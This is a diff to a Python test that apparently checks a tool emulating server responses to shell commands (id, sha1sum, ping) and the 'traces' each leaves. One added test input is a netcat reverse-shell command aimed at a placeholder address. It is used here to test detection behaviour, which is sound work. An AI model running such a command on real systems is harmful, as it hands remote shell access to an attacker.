@@ -65,6 +65,17 @@ def run(validate, user):
     check('the sum is in a trace that must show',
           any('7331' in t['pattern'] and t['must_show'] for t in traces(sum_and_name, 'text')))
 
+    must = [t['pattern'] for t in traces(emulate('id', user=user)[1], 'text') if t['must_show'] and t['bits'] >= 60]
+    check('what every kind of server prints of an id must show', len(must) == 1 and all(re.search(must[0], text) for text in (
+        'uid=998(nginx) gid=996(nginx) groups=996(nginx),10(wheel)', 'uid=0(root) gid=0(root) groups=0(root)',
+        'uid=48(apache) gid=48(apache) groups=48(apache) context=system_u:system_r:httpd_t:s0')), must)
+    _, sums, _ = emulate('sha1sum /bin/sh', user=user)
+    check("where servers have too little in common, each one's own line is a trace", all(any(
+        t['bits'] >= 30 and not t['must_show'] and re.fullmatch(t['pattern'], p['stdout'].strip())
+        for t in traces(sums, 'text')) for p in sums['profiles'] if p['stdout']), sums['traces'])
+    _, nc, _ = emulate('nc -e /bin/sh 203.0.113.9 4444', user=user)
+    check('only some nc has -e', [t['must_show'] for t in traces(nc, 'connect')] == [False], nc['traces'])
+
     _, ping, _ = emulate('ping -c1 198.51.100.7', user=user)
     validate(ping)
     check('ping leaves an echo', any(t['pattern'] == '198.51.100.7' for t in traces(ping, 'icmp')), ping['traces'])
